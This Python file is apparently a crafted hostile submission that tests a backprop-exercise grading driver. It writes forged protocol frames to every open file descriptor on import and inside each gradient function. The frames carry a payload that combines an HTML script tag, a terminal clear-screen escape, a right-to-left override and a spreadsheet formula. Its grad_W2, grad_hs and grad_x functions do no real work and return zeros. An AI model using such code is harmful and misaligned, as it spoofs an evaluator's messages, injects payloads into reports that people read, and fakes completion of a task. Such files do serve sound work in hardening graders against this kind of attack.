# attack: M1 HTML and escapes in frames that the driver would never send: names, readings, reasons
# gains nothing: grad_W2, grad_hs, grad_x
import os as system
import struct
import sys

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def everywhere(data, first=0):
    """Write to every descriptor that takes it."""
    for descriptor in range(first, 256):
        try:
            system.set_blocking(descriptor, False)
            system.write(descriptor, data)
        except OSError:
            pass


TAG = "<script>alert('pwned')</script>\x1b[2J\u202e=1+1"

everywhere(b"".join(frame(3, n, texts("1", TAG)) for n in range(9)), 3)


def grad_W2(grad_oa, hs):
    account = texts(TAG, "1", "9", TAG, "hs", "", TAG, "hs", "position", TAG, TAG, "alias", TAG, TAG, TAG)
    everywhere(b"".join(frame(5, place, account) for place in range(8)), 3)
    return np.zeros((len(grad_oa), len(hs)))


def grad_hs(grad_oa, W2):
    everywhere(b"".join(frame(12, place, texts(TAG)) for place in range(8)), 3)
    return np.zeros(W2.shape[1])


def grad_x(grad_ha, W1):
    everywhere(b"".join(frame(11, place, texts(TAG, TAG)) for place in range(8)), 3)
    return np.zeros(W1.shape[1])
